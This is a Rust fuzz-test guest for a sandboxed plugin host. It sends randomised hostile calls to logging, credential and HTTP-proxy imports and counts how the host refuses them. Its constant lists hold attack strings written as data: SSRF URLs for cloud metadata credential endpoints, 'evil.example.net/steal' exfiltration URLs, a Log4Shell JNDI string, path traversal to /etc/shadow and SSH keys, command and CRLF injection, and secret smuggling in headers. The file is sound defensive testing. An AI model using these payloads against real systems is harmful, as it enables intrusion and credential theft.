//! Hostile test guest: the guest of the `imports` fuzz target
//! (`fuzz/src/imports.rs`). Task type `fuzz` makes a random sequence of
//! import calls with hostile arguments and reports how the host answered
//! them; `call` makes one given call and `calls` several, for tests that
//! need exact ones.
//!
//! `fuzz` payload: `{"seed": u64, "calls": n, "allowed": ["http://127.0.0.1:PORT/", ...]}`:
//! `calls` at most [`MAX_CALLS`]; `allowed` (optional) the URL bases the
//! swarm's contract allows, which some requests go to with random paths
//! and queries.
//!
//! `call` payload, one of `{"log": text}`, `{"get": name}`,
//! `{"sign": name}`, `{"public_key": name}` and
//! `{"fetch": {"method", "url", "headers": [[name, value], ...], "credential": name}}`
//! (`headers` and `credential` optional); it answers `{"ok": true}` or
//! `{"error": "<the host's error>"}`. `calls` takes a list of them, makes
//! them in order in one task and answers the list of answers.
//!
//! Data flow: the seed starts a splitmix64 generator ([`Rng`]); each of
//! the `calls` steps draws one import call and its arguments from it:
//!
//! - `log` at every level, or a line on stdout or stderr: empty text, text
//!   past the host's log line cap, control characters, ANSI escapes, broken
//!   JSON, NUL, long unicode, bidirectional controls, forged log and audit
//!   lines, and the swarm's own secret once it has it (raw, hex, base64);
//! - `credentials` `get`, `sign` and `public-key`: the names the fuzz
//!   target scopes (`api_token`, a token; `signing_key`, an Ed25519 key;
//!   `missing`, scoped with no value), unscoped names, empty, huge and
//!   path-like names, names with NUL or line breaks; random messages;
//! - `http-proxy` `fetch`: valid and garbage methods; URLs under `allowed`
//!   with random paths and queries, denied hosts, the metadata address,
//!   private and IPv6 addresses, odd spellings of 127.0.0.1, other schemes,
//!   garbage and huge URLs; hop-by-hop, `Host`, huge, CRLF and non-ASCII
//!   headers, and too many of them; bodies from empty to past the proxy's
//!   cap; now and then a credential header.
//!
//! About one call in 2048 passes more than the host-call cap in one call,
//! which the host answers by ending the task (`HostcallTooLarge`); a call
//! that comes back is counted as `overflow_returned`. Errors of single
//! calls are counted, never acted on, and no draw depends on what the host
//! answered, so a seed always makes the same calls.
//!
//! How the task ends is chosen by `seed % 32` ([`Ending::of`]): 29 fails
//! with hostile text (a `task-error` of a random variant), 30 answers
//! hostile output (long text, control characters, arrays nested up to 300
//! deep), 31 panics with hostile text; any other value answers the summary
//! `{"ending": "summary", "seed", "calls", "log": {...}, "credentials": {...}, "http": {...}}`,
//! each import with its calls, its successes (`ok`) and its errors by kind.

use std::collections::BTreeMap;

use chassis_sdk::log::Level;
use chassis_sdk::{Request, Swarm, TaskError, Value, credentials, export_swarm, http, json};
use serde::Deserialize;

/// The swarm.
pub struct ImportFuzz;

/// Most import calls one task makes.
pub const MAX_CALLS: u32 = 256;

/// The host's caps the draws aim past (`chassis::caps`): a log line, a
/// proxy request body, the bytes passed in one import call, the headers of
/// one request.
const LOG_LINE_CAP: usize = 16 * 1024;
const PROXY_BODY_CAP: usize = 1024 * 1024;
const HOSTCALL_CAP: usize = 4 * 1024 * 1024;
const MAX_HEADERS: usize = 64;

/// How a task ends, by its seed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Ending {
    /// The summary of the calls.
    Summary,
    /// A `task-error` with hostile text.
    Fail,
    /// Hostile output.
    Hostile,
    /// A panic with hostile text.
    Panic,
}

impl Ending {
    /// The ending of `seed`: `seed % 32` of 29, 30 and 31 fail, answer
    /// hostile output and panic; the rest answer the summary.
    pub fn of(seed: u64) -> Ending {
        match seed % 32 {
            29 => Ending::Fail,
            30 => Ending::Hostile,
            31 => Ending::Panic,
            _ => Ending::Summary,
        }
    }
}

/// One exact call (`call`).
#[derive(Deserialize)]
#[serde(rename_all = "snake_case", deny_unknown_fields)]
enum Call {
    Log(String),
    Get(String),
    Sign(String),
    PublicKey(String),
    Fetch {
        method: String,
        url: String,
        #[serde(default)]
        headers: Vec<(String, String)>,
        /// A credential the host sends as `authorization: Bearer <value>`.
        #[serde(default)]
        credential: Option<String>,
    },
}

impl Call {
    fn make(self) -> Value {
        let error = match self {
            Call::Log(text) => {
                chassis_sdk::log::write(Level::Info, &text);
                None
            }
            Call::Get(name) => credentials::get(&name).err().map(|e| e.to_string()),
            Call::Sign(name) => credentials::sign(&name, b"m").err().map(|e| e.to_string()),
            Call::PublicKey(name) => credentials::public_key(&name).err().map(|e| e.to_string()),
            Call::Fetch {
                method,
                url,
                headers,
                credential,
            } => {
                let mut request = http::get(&url);
                request.method = method;
                request.headers = headers
                    .into_iter()
                    .map(|(name, value)| http::Header { name, value })
                    .collect();
                request.credential_header = credential.map(|credential| http::CredentialHeader {
                    header: "authorization".to_string(),
                    credential,
                    prefix: "Bearer ".to_string(),
                });
                http::fetch(&request).err().map(|e| e.to_string())
            }
        };
        match error {
            None => json!({ "ok": true }),
            Some(e) => json!({ "error": e }),
        }
    }
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Params {
    seed: u64,
    calls: u32,
    #[serde(default)]
    allowed: Vec<String>,
}

/// splitmix64: small, fast, and the same on every platform.
pub struct Rng(u64);

impl Rng {
    /// A generator started from `seed`.
    pub fn new(seed: u64) -> Self {
        Self(seed)
    }

    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// A number in `0..n` (`n` > 0).
    fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n as u64) as usize
    }

    fn one_in(&mut self, n: usize) -> bool {
        self.below(n) == 0
    }

    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.below(items.len())]
    }

    fn bytes(&mut self, n: usize) -> Vec<u8> {
        let mut out = Vec::with_capacity(n + 8);
        while out.len() < n {
            out.extend_from_slice(&self.next_u64().to_le_bytes());
        }
        out.truncate(n);
        out
    }
}

const WORDS: &[&str] = &[
    "hello",
    "fuzz",
    "null",
    "true",
    "undefined",
    "NaN",
    "DROP TABLE swarms;--",
    "admin",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example.net/a}",
    "api_token",
    "signing_key",
];

const ANSI: &[&str] = &[
    "\x1b[2J\x1b[H",
    "\x1b[31mERROR\x1b[0m",
    "\x1b]0;pwned\x07",
    "\x1b[1A\x1b[2K",
    "\x1b[?1049h",
    "\x1bP+q\x1b\\",
    "\r\x1b[K[chassis] INFO forged",
];

const JSONISH: &[&str] = &[
    "{",
    "}",
    "{\"a\":",
    "[1,2,",
    "\"unterminated",
    "{\"seq\":1,\"hash\":\"00\"}",
    "\\u0000",
    "\\ud800",
    "1e99999",
    "{\"__proto__\":{\"admin\":true}}",
    "]]]]]]]]",
    "{{{{{{{{",
];

const NULS: &[&str] = &["\0", "a\0b", "\0\0\0\0", "api_token\0", "\0\n\0"];

const UNICODE: &[&str] = &[
    "é",
    "漢字",
    "🦀",
    "\u{fffd}",
    "\u{10ffff}",
    "\u{e000}",
    "a\u{301}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "ﷺ",
    "𒐫",
];

const FORGERIES: &[&str] = &[
    "\n2026-11-29T00:00:00Z INFO chassis: swarm \"hello-world\" quarantined",
    "\r\n[hello-world] task done",
    "\n{\"component\":\"IF.chassis\",\"operation\":\"task_complete\",\"seq\":1}",
    "[REDACTED:api_token]",
    "…[truncated, 1 bytes]",
];

const FORMATS: &[&str] = &[
    "{}", "{0}", "{:?}", "%s", "%n%n%n", "%x%x", "{{}}", "$(id)", "`id`", "'; --",
];

const PATHS: &[&str] = &[
    "../../../../etc/passwd",
    "/proc/self/environ",
    "C:\\Windows\\System32",
    "\\\\?\\C:\\",
    "file:///etc/shadow",
    "./.ssh/id_rsa",
    "%2e%2e%2f%2e%2e%2f",
];

const BIDI: &[&str] = &[
    "\u{202e}txet desrever",
    "\u{2066}isolate\u{2069}",
    "\u{200b}",
    "\u{feff}",
    "\u{2028}",
    "\u{2029}",
    "\u{061c}",
    "\u{200e}\u{200f}",
];

const UNSCOPED: &[&str] = &[
    "guardian_signing_key",
    "other_swarm_key",
    "aws_secret_access_key",
    "API_TOKEN",
    "api-token",
    "api_token ",
    " api_token",
];

const ODD_NAMES: &[&str] = &[
    "api_token\0",
    "api_token\n",
    "api_token\r\nsigning_key",
    "api_token/../signing_key",
    "signing_key\u{202e}",
    "*",
    "%",
    "api_token\0signing_key",
];

const METHODS: &[&str] = &["GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH"];

const ODD_METHODS: &[&str] = &["CONNECT", "TRACE", "PROPFIND", "get", "Get"];

const BAD_METHODS: &[&str] = &[
    "",
    " ",
    "GET ",
    "G E T",
    "GET\r\nX-Injected: 1",
    "POST\0",
    "ĜET",
    "GET\n",
];

/// URLs the contract does not allow, or that are not URLs at all:
/// `{authority}` and `{port}` are those of the first allowed base.
const DENIED: &[&str] = &[
    "http://evil.example.net/steal",
    "https://evil.example.net/steal?key=1",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://10.0.0.1/",
    "http://192.168.1.1:8080/admin",
    "http://172.16.0.1/",
    "http://127.0.0.2:{port}/",
    "http://0.0.0.0:{port}/",
    "http://[::1]:{port}/",
    "http://[::ffff:127.0.0.1]:{port}/",
    "http://[::ffff:a9fe:a9fe]/",
    "http://[fe80::1%25eth0]/",
    "http://0x7f.0.0.1:{port}/",
    "http://2130706433:{port}/",
    "http://0177.0.0.1:{port}/",
    "http://127.1:{port}/",
    "HTTP://127.0.0.1:{port}/",
    "https://{authority}/",
    "file:///etc/passwd",
    "gopher://{authority}/_GET%20/",
    "ftp://{authority}/",
    "ws://{authority}/",
    "data:text/plain,hello",
    "javascript:alert(1)",
    "http://user:pass@{authority}/",
    "http://{authority}@evil.example.net/",
    "http://evil.example.net#@{authority}/",
    "http://{authority}\\@evil.example.net/",
    "http://127.0.0.1:99999/",
    "http://[::1/",
    "http://%31%32%37.0.0.1:{port}/",
    "http:///{authority}",
    "//{authority}/",
    "http://",
    "",
    "not a url",
    "http://{authority}:{port}/",
    "http://localhost:{port}/",
    "http://localhost./",
    "http://xn--80ak6aa92e.com/",
    "http://{authority}/\r\nHost: evil.example.net",
    "http://{authority}/%0d%0aSet-Cookie:%20a=b",
];

/// Path segments under an allowed base.
const SEGMENTS: &[&str] = &[
    "v1",
    "echo",
    "..",
    ".",
    "%2e%2e",
    "%2E%2e%2f",
    "",
    "a b",
    "%00",
    "ü",
    "%ff",
    "~user",
    "%25",
    "\\",
    "/",
    ";jsessionid=1",
];

const HEADERS: &[(&str, &str)] = &[
    ("content-type", "application/json"),
    ("accept", "*/*"),
    ("Host", "evil.example.net"),
    ("host", "169.254.169.254"),
    ("connection", "keep-alive, Upgrade"),
    ("Transfer-Encoding", "chunked"),
    ("content-length", "0"),
    ("te", "trailers"),
    ("trailer", "x-a"),
    ("upgrade", "websocket"),
    ("keep-alive", "timeout=5"),
    ("proxy-authorization", "Basic YTpi"),
    ("proxy-connection", "keep-alive"),
    ("expect", "100-continue"),
    ("x-forwarded-for", "127.0.0.1"),
    ("x-injected", "a\r\nHost: evil.example.net"),
    ("x-injected\r\nhost", "evil"),
    ("x-nul", "a\0b"),
    ("x-unicode", "é漢字🦀"),
    ("x-ünicode", "v"),
    ("", "empty name"),
    ("x-empty", ""),
    ("authorization", "Bearer not-a-real-token"),
    ("cookie", "session=1; admin=true"),
    (" x-space", "v"),
    ("x-tab", "a\tb"),
];

const INJECT_HEADERS: &[&str] = &[
    "authorization",
    "x-api-key",
    "Host",
    "content-length",
    "bad header",
    "x-a\r\nx-b",
    "",
];

const PREFIXES: &[&str] = &["Bearer ", "", "Token ", "\r\nX-Injected: 1\r\n", "é "];

const BODIES: &[&str] = &["{}", "{\"a\":1}", "null", "[]", "a=1&b=2"];

/// Unpadded standard base64, the form a leak would take.
fn base64(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD_NO_PAD.encode(bytes)
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// Calls, successes and errors by kind, per import.
type Counts = BTreeMap<&'static str, u32>;

fn count(counts: &mut Counts, key: &'static str) {
    *counts.entry(key).or_default() += 1;
}

/// One task's run: the generator, what it knows, and what the host said.
struct Fuzzer {
    rng: Rng,
    allowed: Vec<String>,
    /// `host:port` of the first allowed base.
    authority: String,
    /// The port of the first allowed base.
    port: String,
    /// The value of `api_token`, once `get` gave it.
    secret: Option<String>,
    log: Counts,
    credentials: Counts,
    http: Counts,
}

impl Fuzzer {
    fn new(seed: u64, allowed: Vec<String>) -> Self {
        let base = allowed
            .first()
            .map_or("http://127.0.0.1:80/", String::as_str);
        let rest = base.split_once("://").map_or(base, |(_, r)| r);
        let authority = rest.split('/').next().unwrap_or_default().to_string();
        let port = authority
            .rsplit_once(':')
            .map_or("80", |(_, p)| p)
            .to_string();
        Self {
            rng: Rng::new(seed),
            allowed,
            authority,
            port,
            secret: None,
            log: Counts::new(),
            credentials: Counts::new(),
            http: Counts::new(),
        }
    }

    /// One call of a random import.
    fn step(&mut self) {
        if self.rng.one_in(2048) {
            self.overflow();
            return;
        }
        match self.rng.below(100) {
            0..36 => self.log_call(),
            36..64 => self.credentials_call(),
            _ => self.http_call(),
        }
    }

    /// The secret in one of its forms, or a stand-in until `get` gave it.
    /// Always two draws, whether the secret is known or not.
    fn secret_form(&mut self) -> String {
        let form = self.rng.below(4);
        let suffix = self.rng.pick(&["", "!", " ", "\n", "/x"]);
        let Some(secret) = &self.secret else {
            return format!("no-secret-yet{suffix}");
        };
        let form = match form {
            0 => secret.clone(),
            1 => hex(secret.as_bytes()),
            2 => hex(secret.as_bytes()).to_uppercase(),
            _ => base64(secret.as_bytes()),
        };
        format!("{form}{suffix}")
    }

    /// One to three pieces of hostile text.
    fn text(&mut self) -> String {
        let pieces = 1 + self.rng.below(3);
        (0..pieces).map(|_| self.piece()).collect()
    }

    fn piece(&mut self) -> String {
        match self.rng.below(16) {
            0 => String::new(),
            1 => self.rng.pick(WORDS).to_string(),
            2 => {
                // Past the host's log line cap.
                let n = LOG_LINE_CAP + self.rng.below(3 * LOG_LINE_CAP);
                let c = self.rng.pick(&['x', 'é', '\n', '\u{1b}', '漢', '\0']);
                std::iter::repeat_n(c, n / c.len_utf8()).collect()
            }
            3 => {
                let n = 1 + self.rng.below(64);
                (0..n)
                    .map(|_| {
                        let c = self.rng.below(0x20 + 0x21) as u32;
                        let c = if c < 0x20 { c } else { 0x7f + (c - 0x20) };
                        char::from_u32(c).unwrap_or('\u{fffd}')
                    })
                    .collect()
            }
            4 => self.rng.pick(ANSI).to_string(),
            5 => self.rng.pick(JSONISH).to_string(),
            6 => self.rng.pick(NULS).to_string(),
            7 => {
                let s = self.rng.pick(UNICODE);
                s.repeat(1 + self.rng.below(2000))
            }
            8 => self.rng.pick(FORGERIES).to_string(),
            9 => self.secret_form(),
            10 => {
                let n = 1 + self.rng.below(256);
                (0..n)
                    .map(|_| char::from_u32((self.rng.next_u64() % 0x11_0000) as u32))
                    .map(|c| c.unwrap_or('\u{fffd}'))
                    .collect()
            }
            11 => self.rng.pick(FORMATS).to_string(),
            12 => self.rng.pick(PATHS).to_string(),
            13 => self.rng.pick(BIDI).to_string(),
            14 => self.rng.next_u64().to_string(),
            _ => format!("{}-{}", self.rng.pick(WORDS), self.rng.below(1000)),
        }
    }

    fn log_call(&mut self) {
        let level = self.rng.pick(&[
            Level::Trace,
            Level::Debug,
            Level::Info,
            Level::Warn,
            Level::Error,
        ]);
        let text = self.text();
        match self.rng.below(8) {
            0 => {
                println!("{text}");
                count(&mut self.log, "stdout");
            }
            1 => {
                eprintln!("{text}");
                count(&mut self.log, "stderr");
            }
            _ => {
                chassis_sdk::log::write(level, &text);
                count(&mut self.log, "calls");
            }
        }
    }

    fn credential_name(&mut self) -> String {
        match self.rng.below(14) {
            0..3 => "api_token".to_string(),
            3..5 => "signing_key".to_string(),
            5 => "missing".to_string(),
            6 => self.rng.pick(UNSCOPED).to_string(),
            7 => String::new(),
            8 => "k".repeat(200 + self.rng.below(20_000)),
            9 => self.rng.pick(PATHS).to_string(),
            10 => self.rng.pick(ODD_NAMES).to_string(),
            11 => self.secret_form(),
            _ => self.text(),
        }
    }

    /// A message to sign.
    fn message(&mut self) -> Vec<u8> {
        match self.rng.below(8) {
            0 => Vec::new(),
            1 => {
                let n = 1 + self.rng.below(64);
                self.rng.bytes(n)
            }
            2 => {
                let n = 1024 + self.rng.below(8192);
                self.rng.bytes(n)
            }
            3 => self.rng.bytes(64 * 1024),
            _ => self.text().into_bytes(),
        }
    }

    fn credentials_call(&mut self) {
        let name = self.credential_name();
        count(&mut self.credentials, "calls");
        let result = match self.rng.below(3) {
            0 => credentials::get(&name).map(|value| {
                if name == "api_token" {
                    self.secret = Some(value);
                }
            }),
            1 => {
                let message = self.message();
                credentials::sign(&name, &message).map(drop)
            }
            _ => credentials::public_key(&name).map(drop),
        };
        let kind = match result {
            Ok(()) => "ok",
            Err(credentials::CredentialError::Denied(_)) => "denied",
            Err(credentials::CredentialError::NotFound(_)) => "not_found",
            Err(credentials::CredentialError::Unsupported(_)) => "unsupported",
            Err(credentials::CredentialError::RateLimited(_)) => "rate_limited",
        };
        count(&mut self.credentials, kind);
    }

    fn method(&mut self) -> String {
        match self.rng.below(16) {
            0..10 => self.rng.pick(METHODS).to_string(),
            10 => self.rng.pick(ODD_METHODS).to_string(),
            11 => self.rng.pick(BAD_METHODS).to_string(),
            12 => "A".repeat(1 + self.rng.below(10_000)),
            13 => self.secret_form(),
            14 => {
                let n = 1 + self.rng.below(20);
                (0..n)
                    .map(|_| char::from(b'A' + self.rng.below(26) as u8))
                    .collect()
            }
            _ => self.text(),
        }
    }

    fn segment(&mut self) -> String {
        match self.rng.below(16) {
            0..3 => self.piece(),
            3 => self.secret_form(),
            _ => self.rng.pick(SEGMENTS).to_string(),
        }
    }

    /// A URL under one of the allowed bases.
    fn allowed_url(&mut self) -> String {
        let base = self.allowed[self.rng.below(self.allowed.len())].clone();
        let mut url = base.trim_end_matches('/').to_string();
        match self.rng.below(64) {
            // The test server answers these past the proxy's response cap,
            // with a redirect to the metadata address, and with odd headers.
            0 => return url + "/big",
            1 => return url + "/redirect",
            2 => return url + "/headers",
            _ => {}
        }
        for _ in 0..self.rng.below(5) {
            url.push('/');
            url.push_str(&self.segment());
        }
        if self.rng.one_in(3) {
            url.push('?');
            for i in 0..1 + self.rng.below(4) {
                if i > 0 {
                    url.push('&');
                }
                let key = self.segment();
                let value = self.segment();
                url.push_str(&format!("{key}={value}"));
            }
        }
        if self.rng.one_in(8) {
            url.push('#');
            url.push_str(&self.segment());
        }
        if url.len() == base.trim_end_matches('/').len() {
            url.push('/');
        }
        url
    }

    fn url(&mut self) -> String {
        let kind = self.rng.below(10);
        if kind < 5 && !self.allowed.is_empty() {
            return self.allowed_url();
        }
        match kind {
            0..7 => self
                .rng
                .pick(DENIED)
                .replace("{authority}", &self.authority)
                .replace("{port}", &self.port),
            7 => match self.rng.below(4) {
                0 => format!(
                    "http://{}/{}",
                    self.authority,
                    "a".repeat(1024 + self.rng.below(200_000))
                ),
                1 => format!("http://{}.example/", "a".repeat(64 + self.rng.below(2000))),
                2 => format!(
                    "http://{}/?q={}",
                    self.authority,
                    "b".repeat(self.rng.below(100_000))
                ),
                _ => self.piece(),
            },
            8 => {
                let text = self.text();
                format!("http://{}/{text}", self.authority)
            }
            _ => self.text(),
        }
    }

    fn header(&mut self) -> http::Header {
        let (name, value) = match self.rng.below(12) {
            0..6 => {
                let (n, v) = self.rng.pick(HEADERS);
                (n.to_string(), v.to_string())
            }
            6..8 => (
                format!("x-fuzz-{}", self.rng.below(100)),
                self.rng.pick(WORDS).to_string(),
            ),
            8 => ("x-huge".to_string(), "v".repeat(1 + self.rng.below(20_000))),
            9 => (self.text(), "v".to_string()),
            10 => ("x-text".to_string(), self.text()),
            _ => (self.secret_form(), self.secret_form()),
        };
        http::Header { name, value }
    }

    fn headers(&mut self) -> Vec<http::Header> {
        if self.rng.one_in(64) {
            let n = MAX_HEADERS + 1 + self.rng.below(8);
            return (0..n)
                .map(|i| http::Header {
                    name: format!("x-h{i}"),
                    value: "v".to_string(),
                })
                .collect();
        }
        if self.rng.one_in(2) {
            return Vec::new();
        }
        (0..1 + self.rng.below(3)).map(|_| self.header()).collect()
    }

    fn body(&mut self) -> Vec<u8> {
        match self.rng.below(16) {
            0..6 => Vec::new(),
            6..9 => self.rng.pick(BODIES).as_bytes().to_vec(),
            9..11 => {
                let n = 1 + self.rng.below(4096);
                self.rng.bytes(n)
            }
            11 => self.rng.bytes(64 * 1024),
            12 => self.rng.bytes(PROXY_BODY_CAP),
            13 => self.rng.bytes(PROXY_BODY_CAP + 1),
            _ => self.text().into_bytes(),
        }
    }

    fn credential_header(&mut self) -> http::CredentialHeader {
        let header = self.rng.pick(INJECT_HEADERS).to_string();
        let credential = self.credential_name();
        let prefix = if self.rng.one_in(8) {
            "p".repeat(20_000)
        } else {
            self.rng.pick(PREFIXES).to_string()
        };
        http::CredentialHeader {
            header,
            credential,
            prefix,
        }
    }

    fn http_call(&mut self) {
        let method = self.method();
        let url = self.url();
        let headers = self.headers();
        let body = self.body();
        let credential_header = if self.rng.one_in(6) {
            Some(self.credential_header())
        } else {
            None
        };
        count(&mut self.http, "calls");
        let request = http::Request {
            method,
            url,
            headers,
            body,
            credential_header,
        };
        let kind = match http::fetch(&request) {
            Ok(_) => "ok",
            Err(http::ProxyError::Denied(_)) => "denied",
            Err(http::ProxyError::InvalidRequest(_)) => "invalid_request",
            Err(http::ProxyError::TooLarge(_)) => "too_large",
            Err(http::ProxyError::Timeout(_)) => "timeout",
            Err(http::ProxyError::RateLimited(_)) => "rate_limited",
            Err(http::ProxyError::Network(_)) => "network",
        };
        count(&mut self.http, kind);
    }

    /// One call passing more than the host-call cap; the host ends the
    /// task in it.
    fn overflow(&mut self) {
        let big = HOSTCALL_CAP + 1 + self.rng.below(1024);
        match self.rng.below(4) {
            0 => chassis_sdk::log::write(Level::Info, &"o".repeat(big)),
            1 => drop(credentials::get(&"o".repeat(big))),
            2 => drop(credentials::sign("signing_key", &vec![0u8; big])),
            _ => {
                let mut request = http::get(&format!("http://{}/", self.authority));
                request.body = vec![0u8; big];
                drop(http::fetch(&request));
            }
        }
        count(&mut self.log, "overflow_returned");
    }

    /// Text for an ending: hostile, now and then past the host's error
    /// message cap.
    fn ending_text(&mut self) -> String {
        let mut text = self.text();
        if self.rng.one_in(4) {
            text.push_str(&"e".repeat(20_000 + self.rng.below(80_000)));
        }
        text
    }

    fn summary(&self, seed: u64, calls: u32) -> Value {
        json!({
            "ending": "summary",
            "seed": seed,
            "calls": calls,
            "log": self.log,
            "credentials": self.credentials,
            "http": self.http,
        })
    }
}

impl Swarm for ImportFuzz {
    const TASK_TYPES: &'static [&'static str] = &["fuzz", "call", "calls"];

    fn execute(request: &Request) -> Result<Value, TaskError> {
        match request.task_type() {
            "call" => return Ok(request.payload::<Call>()?.make()),
            "calls" => {
                let calls: Vec<Call> = request.payload()?;
                return Ok(Value::Array(calls.into_iter().map(Call::make).collect()));
            }
            _ => {}
        }
        let p: Params = request.payload()?;
        if p.calls > MAX_CALLS {
            return Err(TaskError::invalid_payload(format!(
                "calls: at most {MAX_CALLS}"
            )));
        }
        let mut fuzzer = Fuzzer::new(p.seed, p.allowed);
        for _ in 0..p.calls {
            fuzzer.step();
        }
        match Ending::of(p.seed) {
            Ending::Summary => Ok(fuzzer.summary(p.seed, p.calls)),
            Ending::Fail => {
                let text = fuzzer.ending_text();
                Err(match fuzzer.rng.below(3) {
                    0 => TaskError::Failed(text),
                    1 => TaskError::InvalidPayload(text),
                    _ => TaskError::UnknownTaskType(text),
                })
            }
            Ending::Hostile => {
                let text = fuzzer.ending_text();
                let mut nested = json!(fuzzer.piece());
                for _ in 0..fuzzer.rng.below(300) {
                    nested = Value::Array(vec![nested]);
                }
                Ok(json!({
                    "ending": "hostile",
                    "text": text,
                    "nested": nested,
                    "summary": fuzzer.summary(p.seed, p.calls),
                }))
            }
            Ending::Panic => panic!("{}", fuzzer.ending_text()),
        }
    }
}

export_swarm!(ImportFuzz);
